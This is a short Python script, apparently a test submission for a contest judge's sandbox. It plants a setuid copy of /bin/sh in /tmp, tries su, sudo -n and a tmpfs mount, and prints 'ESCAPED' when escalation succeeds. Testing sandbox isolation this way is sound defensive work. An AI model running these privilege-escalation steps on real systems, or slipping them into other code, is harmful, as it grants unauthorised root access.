"""Looks for programs that change identity when run, and makes one.

task: squares
status: RE WA
"""

import os
import shutil
import subprocess

os.write(2, b"attempt\n")
try:
    shutil.copy("/bin/sh", "/tmp/@TOKEN@")
    os.chmod("/tmp/@TOKEN@", 0o6755)
except OSError as error:
    print(error)
for command in (
    ["su", "-c", "id -u"],
    ["sudo", "-n", "id", "-u"],
    ["mount", "-t", "tmpfs", "x", "/tmp"],
    ["/tmp/@TOKEN@", "-pc", "id -u"],
):
    try:
        done = subprocess.run(command, capture_output=True, timeout=0.5, stdin=subprocess.DEVNULL)
        if done.returncode == 0 and command[0] in ("sudo", "mount"):
            print("ESCAPED", command[0], done.stdout)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
print(0)
